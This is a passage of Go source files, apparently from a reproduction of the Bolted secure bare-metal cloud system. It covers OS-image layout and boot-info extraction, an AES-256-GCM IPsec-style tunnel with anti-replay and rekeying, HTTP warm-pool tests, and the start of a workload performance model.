	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Discard drops all overlay state, reverting to the base image.
func (o *Overlay) Discard() {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.dirty = make(map[int64][]byte)
}
