package bmi

import (
	"context"
	"encoding/json"
	"fmt"

	"bolted/internal/blockdev"
)

// This file defines BMI's OS image layout and the boot-info extraction
// the paper describes: "BMI allows tenants to run scripts against a
// BMI-managed filesystem which we use to extract boot information
// (kernel, initramfs image and kernel command lines) from images so
// that they could be passed to a booting server in a secure way via
// Keylime."
//
// Layout: a JSON manifest padded to manifestBytes at image start, then
// the kernel, initrd and root filesystem at sector-aligned offsets.

const manifestBytes = 64 << 10

// OSImageSpec describes an operating-system image to build.
type OSImageSpec struct {
	KernelID string // human-readable kernel identity, e.g. "fedora28-4.17.9"
	Kernel   []byte
	Initrd   []byte
	Cmdline  string
	RootFS   []byte
}

// BootInfo is what Keylime delivers to an attested node.
type BootInfo struct {
	KernelID string
	Kernel   []byte
	Initrd   []byte
	Cmdline  string
}

// manifest is the on-image metadata block.
type manifest struct {
	Magic     string `json:"magic"`
	KernelID  string `json:"kernel_id"`
	Cmdline   string `json:"cmdline"`
	KernelOff int64  `json:"kernel_off"`
	KernelLen int64  `json:"kernel_len"`
	InitrdOff int64  `json:"initrd_off"`
	InitrdLen int64  `json:"initrd_len"`
	RootOff   int64  `json:"root_off"`
	RootLen   int64  `json:"root_len"`
}

const manifestMagic = "BMI-OS-IMAGE-V1"

func alignUp(n int64) int64 {
	const s = blockdev.SectorSize
	return (n + s - 1) / s * s
}

// writePadded writes data at a byte offset (must be sector aligned),
// padding the tail to a sector boundary. The payload and its padding go
// down as a gather vector, so devices with a native scatter-gather path
// (network clients, Ceph images) never see a full-size staging copy of
// the kernel or root filesystem.
func writePadded(dev blockdev.Device, off int64, data []byte) error {
	if len(data) == 0 {
		return nil
	}
	bufs := [][]byte{data}
	if pad := alignUp(int64(len(data))) - int64(len(data)); pad > 0 {
		bufs = append(bufs, make([]byte, pad))
	}
	return blockdev.WriteVector(dev, bufs, off/blockdev.SectorSize)
}

// CreateOSImage builds a bootable OS image from spec. The image is
// sized to fit its contents plus 25% slack for node writes.
func (s *Service) CreateOSImage(name string, spec OSImageSpec) (*Image, error) {
	if spec.KernelID == "" || len(spec.Kernel) == 0 {
		return nil, fmt.Errorf("bmi: OS image needs a kernel")
	}
	m := manifest{
		Magic:    manifestMagic,
		KernelID: spec.KernelID,
		Cmdline:  spec.Cmdline,
	}
	off := int64(manifestBytes)
	m.KernelOff, m.KernelLen = off, int64(len(spec.Kernel))
	off += alignUp(m.KernelLen)
	m.InitrdOff, m.InitrdLen = off, int64(len(spec.Initrd))
	off += alignUp(m.InitrdLen)
	m.RootOff, m.RootLen = off, int64(len(spec.RootFS))
	off += alignUp(m.RootLen)

	size := alignUp(off + off/4)
	img, err := s.CreateImage(context.Background(), name, size)
	if err != nil {
		return nil, err
	}
	dev, err := s.Device(name)
	if err != nil {
		return nil, err
	}
	enc, err := json.Marshal(m)
	if err != nil {
		return nil, err
	}
	if len(enc) > manifestBytes {
		return nil, fmt.Errorf("bmi: manifest too large")
	}
	mbuf := make([]byte, manifestBytes)
	copy(mbuf, enc)
	if err := dev.WriteSectors(mbuf, 0); err != nil {
		return nil, err
	}
	for _, part := range []struct {
		off  int64
		data []byte
	}{
		{m.KernelOff, spec.Kernel},
		{m.InitrdOff, spec.Initrd},
		{m.RootOff, spec.RootFS},
	} {
		if err := writePadded(dev, part.off, part.data); err != nil {
			return nil, err
		}
	}
	return img, nil
}

// readManifest parses the manifest from an image device.
func readManifest(dev blockdev.Device) (*manifest, error) {
	raw := make([]byte, manifestBytes)
	if err := dev.ReadSectors(raw, 0); err != nil {
		return nil, err
	}
	end := len(raw)
	for end > 0 && raw[end-1] == 0 {
		end--
	}
	var m manifest
	if err := json.Unmarshal(raw[:end], &m); err != nil {
		return nil, fmt.Errorf("bmi: image has no OS manifest: %w", err)
	}
	if m.Magic != manifestMagic {
		return nil, fmt.Errorf("bmi: bad manifest magic %q", m.Magic)
	}
	return &m, nil
}

// readExtent reads a byte extent from sector-aligned storage. The
// payload and the tail padding scatter into separate buffers, so the
// returned slice is exactly length bytes with no over-allocation
// pinned behind it.
func readExtent(dev blockdev.Device, off, length int64) ([]byte, error) {
	if length == 0 {
		return nil, nil
	}
	buf := make([]byte, length)
	bufs := [][]byte{buf}
	if pad := alignUp(length) - length; pad > 0 {
		bufs = append(bufs, make([]byte, pad))
	}
	if err := blockdev.ReadVector(dev, bufs, off/blockdev.SectorSize); err != nil {
		return nil, err
	}
	return buf, nil
}

// ExtractBootInfo reads the kernel, initrd and command line out of an
// OS image without booting it.
func (s *Service) ExtractBootInfo(ctx context.Context, image string) (*BootInfo, error) {
	if err := ctxErr(ctx); err != nil {
		return nil, err
	}
	dev, err := s.Device(image)
	if err != nil {
		return nil, err
	}
	m, err := readManifest(dev)
	if err != nil {
		return nil, err
	}
	kernel, err := readExtent(dev, m.KernelOff, m.KernelLen)
	if err != nil {
		return nil, err
	}
	initrd, err := readExtent(dev, m.InitrdOff, m.InitrdLen)
	if err != nil {
		return nil, err
	}
	return &BootInfo{
		KernelID: m.KernelID,
		Kernel:   kernel,
		Initrd:   initrd,
		Cmdline:  m.Cmdline,
	}, nil
}

// ReadRootFS returns an image's root filesystem payload (test hook and
// workload substrate).
func (s *Service) ReadRootFS(image string) ([]byte, error) {
	dev, err := s.Device(image)
	if err != nil {
		return nil, err
	}
	m, err := readManifest(dev)
	if err != nil {
		return nil, err
	}
	return readExtent(dev, m.RootOff, m.RootLen)
}
