// Package ipsec implements an ESP-style encrypted tunnel between two
// endpoints, the mechanism security-sensitive Bolted tenants use so they
// need not trust the provider's network (§5, §7.2). It performs real
// AES-256-GCM per packet — the paper's AES-256-GCM SHA2-256 suite — with
// SPI/sequence-number encapsulation and standard anti-replay windowing.
//
// Two cipher paths reproduce Figure 3b's comparison: SuiteHWAES uses
// crypto/aes (AES-NI on amd64), SuiteSWAES uses the pure-Go softaes
// package, modelling a kernel without hardware AES.
package ipsec

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"sync"

	"bolted/internal/softaes"
)

// Suite selects the AES implementation backing the tunnel.
type Suite int

const (
	// SuiteHWAES uses the standard library AES (hardware AES-NI where
	// available) — the paper's "IPsec HW" configuration.
	SuiteHWAES Suite = iota
	// SuiteSWAES uses a pure-Go software AES — the paper's "IPsec SW".
	SuiteSWAES
)

func (s Suite) String() string {
	switch s {
	case SuiteHWAES:
		return "aes-256-gcm-hw"
	case SuiteSWAES:
		return "aes-256-gcm-sw"
	default:
		return fmt.Sprintf("suite(%d)", int(s))
	}
}

// Encapsulation overheads in bytes, used both by the real packet path and
// the analytic link model (tunnel mode: outer IP + SPI + seq + IV + ICV).
const (
	HeaderOverhead = 20 + 4 + 4 + 8 // outer IP, SPI, seq, IV
	TagOverhead    = 16             // GCM ICV
	TotalOverhead  = HeaderOverhead + TagOverhead
)

// replayWindowSize is the anti-replay bitmap width (RFC 4303 minimum 32;
// Linux default 64).
const replayWindowSize = 64

var (
	// ErrReplay indicates a packet with an already-seen or too-old
	// sequence number.
	ErrReplay = errors.New("ipsec: replayed or stale sequence number")
	// ErrAuth indicates packet authentication failure.
	ErrAuth = errors.New("ipsec: packet authentication failed")
	// ErrRevoked indicates the SA has been torn down by key revocation.
	ErrRevoked = errors.New("ipsec: security association revoked")
	// ErrExpired indicates the SA exceeded its lifetime and must be
	// rekeyed before carrying more traffic.
	ErrExpired = errors.New("ipsec: security association lifetime exceeded")
)

// SA is a unidirectional security association.
type SA struct {
	mu      sync.Mutex
	spi     uint32
	aead    cipher.AEAD
	salt    [4]byte
	seq     uint64 // outbound: last sent; inbound: highest received
	window  uint64 // inbound anti-replay bitmap, bit 0 = seq
	revoked bool

	// Lifetime limits (0 = unlimited). When either is exceeded the SA
	// refuses further traffic until rekeyed, bounding how much
	// ciphertext any one key protects (RFC 4301 lifetimes).
	maxBytes, maxPkts   uint64
	usedBytes, usedPkts uint64

	// nonceBuf is scratch for the serial Seal/Open path, valid only
	// while mu is held. Parallel stream workers carry their own.
	nonceBuf [12]byte
}

// newSA derives a directional SA from a master key, SPI and direction
// label. Both tunnel ends derive identical SAs from the shared key.
func newSA(suite Suite, masterKey []byte, spi uint32, dir string) (*SA, error) {
	mac := hmac.New(sha256.New, masterKey)
	fmt.Fprintf(mac, "ipsec-sa|%d|%s", spi, dir)
	keymat := mac.Sum(nil) // 32 bytes: AES-256 key
	mac.Reset()
	fmt.Fprintf(mac, "ipsec-salt|%d|%s", spi, dir)
	saltmat := mac.Sum(nil)

	var block cipher.Block
	var err error
	switch suite {
	case SuiteHWAES:
		block, err = aes.NewCipher(keymat)
	case SuiteSWAES:
		block, err = softaes.New(keymat)
	default:
		return nil, fmt.Errorf("ipsec: unknown suite %v", suite)
	}
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	sa := &SA{spi: spi, aead: aead}
	copy(sa.salt[:], saltmat[:4])
	return sa, nil
}

// nonceLocked builds the RFC 4106-style nonce (4-byte salt || 8-byte
// sequence) into the SA's scratch buffer. The returned slice is valid
// only while sa.mu is held.
func (sa *SA) nonceLocked(seq uint64) []byte {
	copy(sa.nonceBuf[:4], sa.salt[:])
	binary.BigEndian.PutUint64(sa.nonceBuf[4:], seq)
	return sa.nonceBuf[:]
}

// fillNonce writes the nonce for seq into caller-owned scratch, for
// workers that must not share the SA's buffer.
func (sa *SA) fillNonce(nonce *[12]byte, seq uint64) {
	copy(nonce[:4], sa.salt[:])
	binary.BigEndian.PutUint64(nonce[4:], seq)
}

// SetLifetime bounds the SA to maxBytes of payload and maxPkts packets
// (0 = unlimited).
func (sa *SA) SetLifetime(maxBytes, maxPkts uint64) {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	sa.maxBytes, sa.maxPkts = maxBytes, maxPkts
}

// Seal encapsulates a payload: SPI(4) || seq(8) || ciphertext+tag.
func (sa *SA) Seal(payload []byte) ([]byte, error) {
	return sa.SealAppend(make([]byte, 0, 12+len(payload)+TagOverhead), payload)
}

// SealAppend is Seal appending the packet to dst and returning the
// extended slice, so callers holding a reusable buffer pay no per-packet
// allocation. The nonce comes from the SA's scratch under the lock.
func (sa *SA) SealAppend(dst, payload []byte) ([]byte, error) {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	if sa.revoked {
		return nil, ErrRevoked
	}
	if (sa.maxBytes > 0 && sa.usedBytes+uint64(len(payload)) > sa.maxBytes) ||
		(sa.maxPkts > 0 && sa.usedPkts+1 > sa.maxPkts) {
		return nil, ErrExpired
	}
	sa.usedBytes += uint64(len(payload))
	sa.usedPkts++
	sa.seq++
	seq := sa.seq

	m := espMetricsNow()
	m.sealedBytes.Add(float64(len(payload)))
	m.sealedPkts.Inc()

	base := len(dst)
	var hdr [12]byte
	binary.BigEndian.PutUint32(hdr[:4], sa.spi)
	binary.BigEndian.PutUint64(hdr[4:], seq)
	dst = append(dst, hdr[:]...)
	return sa.aead.Seal(dst, sa.nonceLocked(seq), payload, dst[base:base+12]), nil
}

// Open authenticates and decapsulates a packet, enforcing anti-replay.
func (sa *SA) Open(pkt []byte) ([]byte, error) {
	return sa.OpenAppend(nil, pkt)
}

// OpenAppend is Open appending the recovered payload to dst.
func (sa *SA) OpenAppend(dst, pkt []byte) ([]byte, error) {
	if len(pkt) < 12+TagOverhead {
		return nil, errors.New("ipsec: packet too short")
	}
	spi := binary.BigEndian.Uint32(pkt[:4])
	if spi != sa.spi {
		return nil, fmt.Errorf("ipsec: SPI %d does not match SA %d", spi, sa.spi)
	}
	seq := binary.BigEndian.Uint64(pkt[4:12])

	sa.mu.Lock()
	defer sa.mu.Unlock()
	if sa.revoked {
		return nil, ErrRevoked
	}
	if err := sa.checkReplayLocked(seq); err != nil {
		return nil, err
	}
	payload, err := sa.aead.Open(dst, sa.nonceLocked(seq), pkt[12:], pkt[:12])
	if err != nil {
		return nil, ErrAuth
	}
	sa.markSeenLocked(seq)
	espMetricsNow().openedBytes.Add(float64(len(payload) - len(dst)))
	return payload, nil
}

// reserveSeq reserves n consecutive outbound sequence numbers under a
// single lock acquisition, accounting totalBytes of payload against the
// SA lifetime, and returns the first reserved number. The parallel
// stream path uses it so sequence assignment stays strictly in stream
// order while the AEAD work fans out.
func (sa *SA) reserveSeq(n int, totalBytes int) (uint64, error) {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	if sa.revoked {
		return 0, ErrRevoked
	}
	if (sa.maxBytes > 0 && sa.usedBytes+uint64(totalBytes) > sa.maxBytes) ||
		(sa.maxPkts > 0 && sa.usedPkts+uint64(n) > sa.maxPkts) {
		return 0, ErrExpired
	}
	sa.usedBytes += uint64(totalBytes)
	sa.usedPkts += uint64(n)
	first := sa.seq + 1
	sa.seq += uint64(n)
	m := espMetricsNow()
	m.sealedBytes.Add(float64(totalBytes))
	m.sealedPkts.Add(float64(n))
	return first, nil
}

// sealPacketInto seals payload under an already-reserved sequence
// number, appending to dst (typically a zero-length, exact-capacity
// arena slot so nothing reallocates). nonce is caller-owned scratch;
// workers share no mutable SA state, so this needs no lock.
func (sa *SA) sealPacketInto(dst []byte, seq uint64, payload []byte, nonce *[12]byte) []byte {
	base := len(dst)
	var hdr [12]byte
	binary.BigEndian.PutUint32(hdr[:4], sa.spi)
	binary.BigEndian.PutUint64(hdr[4:], seq)
	dst = append(dst, hdr[:]...)
	sa.fillNonce(nonce, seq)
	return sa.aead.Seal(dst, nonce[:], payload, dst[base:base+12])
}

// openPacketInto authenticates pkt and appends its payload to dst
// without touching replay state; the caller must commit accepted
// sequence numbers in packet order afterwards via commitReplay.
func (sa *SA) openPacketInto(dst, pkt []byte, nonce *[12]byte) ([]byte, uint64, error) {
	if len(pkt) < 12+TagOverhead {
		return nil, 0, errors.New("ipsec: packet too short")
	}
	spi := binary.BigEndian.Uint32(pkt[:4])
	if spi != sa.spi {
		return nil, 0, fmt.Errorf("ipsec: SPI %d does not match SA %d", spi, sa.spi)
	}
	seq := binary.BigEndian.Uint64(pkt[4:12])
	sa.fillNonce(nonce, seq)
	payload, err := sa.aead.Open(dst, nonce[:], pkt[12:], pkt[:12])
	if err != nil {
		return nil, 0, ErrAuth
	}
	return payload, seq, nil
}

// commitReplay runs the anti-replay check-and-mark for a batch of
// already-authenticated sequence numbers, in packet order, under one
// lock acquisition. Committing in order keeps the window semantics
// identical to opening the packets serially.
func (sa *SA) commitReplay(seqs []uint64) error {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	if sa.revoked {
		return ErrRevoked
	}
	for _, seq := range seqs {
		if err := sa.checkReplayLocked(seq); err != nil {
			return err
		}
		sa.markSeenLocked(seq)
	}
	return nil
}

func (sa *SA) checkReplayLocked(seq uint64) error {
	if seq == 0 {
		return ErrReplay
	}
	if seq > sa.seq {
		return nil // future packet, always fresh
	}
	diff := sa.seq - seq
	if diff >= replayWindowSize {
		return ErrReplay // too old
	}
	if sa.window&(1<<diff) != 0 {
		return ErrReplay // already seen
	}
	return nil
}

func (sa *SA) markSeenLocked(seq uint64) {
	if seq > sa.seq {
		shift := seq - sa.seq
		if shift >= replayWindowSize {
			sa.window = 1
		} else {
			sa.window = sa.window<<shift | 1
		}
		sa.seq = seq
		return
	}
	sa.window |= 1 << (sa.seq - seq)
}

// Revoke tears the SA down; all subsequent Seal/Open calls fail. Keylime
// uses this to cryptographically ban a compromised node (§7.4).
func (sa *SA) Revoke() {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	sa.revoked = true
}

// Revoked reports whether the SA has been revoked.
func (sa *SA) Revoked() bool {
	sa.mu.Lock()
	defer sa.mu.Unlock()
	return sa.revoked
}

// Endpoint is one end of a host-to-host tunnel, holding an outbound and
// an inbound SA.
type Endpoint struct {
	Out *SA
	In  *SA

	// streamWorkers bounds SegmentStream/ReassembleStream parallelism
	// (0 or 1 = serial). Set before streaming; not synchronized with
	// in-flight calls.
	streamWorkers int
}

// SetStreamWorkers sets how many goroutines SegmentStream and
// ReassembleStream may fan packet sealing out across on this endpoint.
// Values below 1 mean serial.
func (e *Endpoint) SetStreamWorkers(n int) {
	e.streamWorkers = n
}

// NewPair creates the two endpoints of a tunnel keyed by a pre-shared
// master key, mirroring the paper's PSK Strongswan configuration. Each
// end holds its own SA state per direction (outbound counter on the
// sender, replay window on the receiver) derived from the same keys.
func NewPair(suite Suite, masterKey []byte) (a, b *Endpoint, err error) {
	spi := sharedSPI(masterKey)
	abOut, err := newSA(suite, masterKey, spi, "a->b")
	if err != nil {
		return nil, nil, err
	}
	baOut, err := newSA(suite, masterKey, spi+1, "b->a")
	if err != nil {
		return nil, nil, err
	}
	return &Endpoint{Out: abOut, In: baOut.clone()},
		&Endpoint{Out: baOut, In: abOut.clone()}, nil
}

// clone copies an SA's keys and identity with fresh sequencing state.
func (sa *SA) clone() *SA {
	return &SA{spi: sa.spi, aead: sa.aead, salt: sa.salt}
}

// sharedSPI derives a deterministic SPI pair base from the key.
func sharedSPI(key []byte) uint32 {
	d := sha256.Sum256(append([]byte("spi"), key...))
	return binary.BigEndian.Uint32(d[:4]) | 0x100 // avoid reserved SPIs 0-255
}

// Send seals a payload on the endpoint's outbound SA.
func (e *Endpoint) Send(payload []byte) ([]byte, error) { return e.Out.Seal(payload) }

// Recv opens a packet on the endpoint's inbound SA.
func (e *Endpoint) Recv(pkt []byte) ([]byte, error) { return e.In.Open(pkt) }

// Revoke tears down both directions.
func (e *Endpoint) Revoke() {
	e.Out.Revoke()
	e.In.Revoke()
}

// RekeyPair replaces both endpoints' SAs with fresh ones derived from
// newKey, resetting sequence numbers, replay windows and lifetime
// counters. Both ends must rekey together (IKE does this negotiation in
// a real deployment; Bolted's Keylime verifier can distribute the new
// key the same way it distributed the first).
func RekeyPair(a, b *Endpoint, suite Suite, newKey []byte) error {
	na, nb, err := NewPair(suite, newKey)
	if err != nil {
		return err
	}
	a.Out, a.In = na.Out, na.In
	b.Out, b.In = nb.Out, nb.In
	return nil
}

// NewMasterKey generates a fresh random 32-byte pre-shared key.
func NewMasterKey() []byte {
	k := make([]byte, 32)
	if _, err := io.ReadFull(rand.Reader, k); err != nil {
		panic("ipsec: entropy source failed: " + err.Error())
	}
	return k
}

// streamParallelThreshold is the packet count below which the stream
// helpers stay serial; on tiny streams the goroutine fan-out costs more
// than the parallel AEAD work recovers.
const streamParallelThreshold = 16

// splitRange fans [0, n) across workers as contiguous index ranges and
// calls fn(w, lo, hi) on one goroutine per worker.
func splitRange(n, workers int, fn func(w, lo, hi int)) {
	per, extra := n/workers, n%workers
	var wg sync.WaitGroup
	idx := 0
	for w := 0; w < workers; w++ {
		cnt := per
		if w < extra {
			cnt++
		}
		if cnt == 0 {
			continue
		}
		lo, hi := idx, idx+cnt
		idx = hi
		wg.Add(1)
		go func(w, lo, hi int) {
			defer wg.Done()
			fn(w, lo, hi)
		}(w, lo, hi)
	}
	wg.Wait()
}

// SegmentStream seals a byte stream as MTU-sized ESP packets, returning
// the packets. This is the data path the Figure 3b iperf-style benchmark
// measures.
//
// All sequence numbers are reserved up front in stream order, so even
// when sealing fans out across the endpoint's stream workers, packet i
// always carries sequence first+i — the wire ordering is identical to
// the serial path. Packets are exact-capacity slices of one shared
// arena: a 1 MiB stream costs one allocation, not one per packet.
func SegmentStream(e *Endpoint, stream []byte, mtu int) ([][]byte, error) {
	payloadPer := mtu - HeaderOverhead - TagOverhead - 40
	if payloadPer < 1 {
		return nil, fmt.Errorf("ipsec: MTU %d too small", mtu)
	}
	if len(stream) == 0 {
		return nil, nil
	}
	n := (len(stream) + payloadPer - 1) / payloadPer
	first, err := e.Out.reserveSeq(n, len(stream))
	if err != nil {
		return nil, err
	}

	const pktOverhead = 12 + TagOverhead
	arena := make([]byte, len(stream)+n*pktOverhead)
	pkts := make([][]byte, n)
	seal := func(i int, nonce *[12]byte) {
		po := i * payloadPer
		pe := po + payloadPer
		if pe > len(stream) {
			pe = len(stream)
		}
		ao := i * (payloadPer + pktOverhead)
		size := pe - po + pktOverhead
		slot := arena[ao : ao : ao+size]
		pkts[i] = e.Out.sealPacketInto(slot, first+uint64(i), stream[po:pe], nonce)
	}

	workers := e.streamWorkers
	if workers > n {
		workers = n
	}
	if workers <= 1 || n < streamParallelThreshold {
		var nonce [12]byte
		for i := 0; i < n; i++ {
			seal(i, &nonce)
		}
		return pkts, nil
	}
	splitRange(n, workers, func(_, lo, hi int) {
		var nonce [12]byte
		for i := lo; i < hi; i++ {
			seal(i, &nonce)
		}
	})
	return pkts, nil
}

// ReassembleStream opens a packet sequence back into the byte stream.
//
// With stream workers configured, packets authenticate in parallel and
// the replay window is committed afterwards in packet order, so the
// accept/reject outcome matches opening the packets serially (the whole
// stream is discarded on any error either way). Payloads decrypt
// directly into slots of the returned buffer — no per-packet copy.
func ReassembleStream(e *Endpoint, pkts [][]byte) ([]byte, error) {
	if len(pkts) == 0 {
		return nil, nil
	}
	offs := make([]int, len(pkts)+1)
	for i, p := range pkts {
		if len(p) < 12+TagOverhead {
			return nil, errors.New("ipsec: packet too short")
		}
		offs[i+1] = offs[i] + len(p) - 12 - TagOverhead
	}
	arena := make([]byte, offs[len(pkts)])

	workers := e.streamWorkers
	if workers > len(pkts) {
		workers = len(pkts)
	}
	if workers <= 1 || len(pkts) < streamParallelThreshold {
		for i, p := range pkts {
			if _, err := e.In.OpenAppend(arena[offs[i]:offs[i]:offs[i+1]], p); err != nil {
				return nil, err
			}
		}
		return arena, nil
	}

	if e.In.Revoked() {
		return nil, ErrRevoked
	}
	seqs := make([]uint64, len(pkts))
	errs := make([]error, workers)
	splitRange(len(pkts), workers, func(w, lo, hi int) {
		var nonce [12]byte
		for i := lo; i < hi; i++ {
			_, seq, err := e.In.openPacketInto(arena[offs[i]:offs[i]:offs[i+1]], pkts[i], &nonce)
			if err != nil {
				errs[w] = err
				return
			}
			seqs[i] = seq
		}
	})
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	if err := e.In.commitReplay(seqs); err != nil {
		return nil, err
	}
	return arena, nil
}
