package remote

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"bolted/internal/core"
)

// waitPoolWarm polls the /v1 pool resource until it parks `want`
// standbys.
func waitPoolWarm(t *testing.T, cli *V1Client, enclave string, want int) *PoolInfo {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		info, err := cli.GetPool(context.Background(), enclave)
		if err != nil {
			t.Fatal(err)
		}
		if info.Warm >= want {
			return info
		}
		if time.Now().After(deadline) {
			t.Fatalf("pool never reached %d warm over the wire: %+v", want, info)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// TestV1PoolLifecycle drives the whole warm-pool surface over HTTP:
// configure, observe the refiller, acquire through the fast path,
// drain, detach — with typed errors at every edge.
func TestV1PoolLifecycle(t *testing.T) {
	_, _, cli := startV1Server(t, 5)
	ctx := context.Background()

	// No enclave yet: every pool call is a typed not-found.
	if _, err := cli.GetPool(ctx, "tenant"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("get pool without enclave = %v", err)
	}
	if _, err := cli.CreateEnclave(ctx, "tenant", "bob"); err != nil {
		t.Fatal(err)
	}
	// Enclave exists but has no pool.
	if _, err := cli.GetPool(ctx, "tenant"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("get pool before configure = %v", err)
	}
	// Invalid policy crosses the wire as ErrInvalid.
	if _, err := cli.ConfigurePool(ctx, "tenant", PoolPolicyInfo{Target: -1}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("invalid policy = %v", err)
	}

	pol := core.DefaultPoolPolicy()
	pol.Target = 2
	pol.RetryBackoff = 5 * time.Millisecond
	info, err := cli.ConfigurePool(ctx, "tenant", pol)
	if err != nil {
		t.Fatal(err)
	}
	if info.Enclave != "tenant" || info.Policy.Target != 2 {
		t.Fatalf("configured pool = %+v", info)
	}
	info = waitPoolWarm(t, cli, "tenant", 2)
	if len(info.WarmNodes) != 2 {
		t.Fatalf("warm nodes = %+v", info)
	}
	pools, err := cli.ListPools(ctx)
	if err != nil || len(pools) != 1 || pools[0].Enclave != "tenant" {
		t.Fatalf("list pools = %+v, %v", pools, err)
	}

	// An acquisition drains the standbys through the fast path; the
	// operation's phase breakdown says so on the wire.
	op, err := cli.Acquire(ctx, "tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	final, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		t.Fatal(err)
	}
	if final.Result == nil || len(final.Result.Nodes) != 2 {
		t.Fatalf("operation result = %+v", final)
	}
	warmPhases := 0
	for _, p := range final.Result.Phases {
		if p.Phase == core.PhaseWarmRequote || p.Phase == core.PhaseWarmProvision {
			warmPhases += p.Nodes
		}
		if p.Phase == core.PhaseBoot {
			t.Fatalf("warm acquisition paid the cold boot phase: %+v", final.Result.Phases)
		}
	}
	if warmPhases == 0 {
		t.Fatalf("no warm phases on the wire: %+v", final.Result.Phases)
	}
	info, err = cli.GetPool(ctx, "tenant")
	if err != nil {
		t.Fatal(err)
	}
	if info.Hits != 2 {
		t.Fatalf("pool hits = %+v", info)
	}

	// Drain empties and idles; a second configure re-arms; delete
	// detaches entirely.
	info, err = cli.DrainPool(ctx, "tenant")
	if err != nil {
		t.Fatal(err)
	}
	if info.Warm != 0 || info.Policy.Target != 0 {
		t.Fatalf("drained pool = %+v", info)
	}
	if err := cli.DeletePool(ctx, "tenant"); err != nil {
		t.Fatal(err)
	}
	if err := cli.DeletePool(ctx, "tenant"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("double delete = %v", err)
	}
	if _, err := cli.GetPool(ctx, "tenant"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("get after delete = %v", err)
	}
}

// TestTransportConnectionReuse pins the shared-transport behaviour: a
// full batch over the wire issues hundreds of HTTP requests (HIL
// wiring, registrar round trips, block I/O frames), and the pooled
// keep-alive transport must serve them over a handful of TCP
// connections rather than dialing per request.
func TestTransportConnectionReuse(t *testing.T) {
	cfg := core.DefaultConfig()
	cfg.Nodes = 8
	serverCloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := serverCloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
		t.Fatal(err)
	}
	handler, err := NewHandler(serverCloud)
	if err != nil {
		t.Fatal(err)
	}
	var conns, requests int64
	counting := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		atomic.AddInt64(&requests, 1)
		handler.ServeHTTP(w, r)
	})
	srv := httptest.NewUnstartedServer(counting)
	srv.Config.ConnState = func(c net.Conn, st http.ConnState) {
		if st == http.StateNew {
			atomic.AddInt64(&conns, 1)
		}
	}
	srv.Start()
	defer srv.Close()

	cloud, err := Dial(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	runBatch := func(project string) {
		t.Helper()
		e, err := core.NewEnclave(cloud, project, core.ProfileBob)
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.AcquireNodes(context.Background(), "fedora28", 8)
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Nodes) != 8 {
			t.Fatalf("allocated %d of 8", len(res.Nodes))
		}
		if err := e.Destroy(); err != nil {
			t.Fatal(err)
		}
	}

	// First batch warms the connection pool (and pays the concurrency
	// burst's dials); the reuse property under test is that subsequent
	// bursts ride the kept-alive pool instead of re-dialing. The
	// two-per-host idle cap of http.DefaultTransport fails this: it
	// closes all but two connections between bursts, so every batch
	// re-dials its concurrency anew.
	runBatch("tenant-a")
	afterFirst := atomic.LoadInt64(&conns)
	runBatch("tenant-b")
	got, reqs := atomic.LoadInt64(&conns), atomic.LoadInt64(&requests)
	if reqs < 100 {
		t.Fatalf("batches issued only %d requests; the reuse assertion below is meaningless", reqs)
	}
	if fresh := got - afterFirst; fresh > 4 {
		t.Fatalf("second batch dialed %d new TCP connections (%d total for %d requests); transport is churning instead of reusing",
			fresh, got, reqs)
	}
	t.Logf("%d requests over %d connections (%d dialed by the second batch)", reqs, got, got-afterFirst)
}
