// Package workload models the paper's evaluation workloads: the NAS
// Parallel Benchmarks (EP, CG, FT, MG class D), Spark TeraSort, and the
// Filebench-in-a-VM experiment of Figure 7, plus the kernel-compile
// stress test of Figure 6.
//
// The macro models are analytic: each application is characterized by
// its per-node compute time and its communication/storage demands
// (message count and size, remote-disk read/write volumes), taken from
// the benchmarks' published communication profiles. Runtime under a
// security configuration follows from how encryption changes the cost
// of those demands: IPsec adds per-packet processing latency (dominant
// for latency-bound small-message collectives like CG) and caps bulk
// throughput at the cipher rate; LUKS shaves disk write bandwidth. The
// degradation ORDERING is therefore structural — an app's sensitivity
// is its communication profile — even though the absolute constants are
// calibrated to the paper's testbed.
package workload

import (
	"fmt"
	"time"
)

// SecConfig is a Figure-7 security configuration.
type SecConfig struct {
	LUKS  bool
	IPsec bool
}

func (s SecConfig) String() string {
	switch {
	case s.LUKS && s.IPsec:
		return "LUKS+IPsec"
	case s.LUKS:
		return "LUKS"
	case s.IPsec:
		return "IPsec"
	default:
		return "none"
	}
}

// AllSecConfigs is Figure 7's x-axis per application.
var AllSecConfigs = []SecConfig{
	{},
	{LUKS: true},
	{IPsec: true},
	{LUKS: true, IPsec: true},
}

// Network path constants (10 GbE, jumbo frames, AES-NI IPsec — §7.1:
// "hardware accelerated encryption and jumbo frames for all subsequent
// experiments").
const (
	oneWayLatency = 50 * time.Microsecond
	wireBandwidth = 10e9 // bits/s
	// ipsecPerPacket is the effective per-packet processing delay a
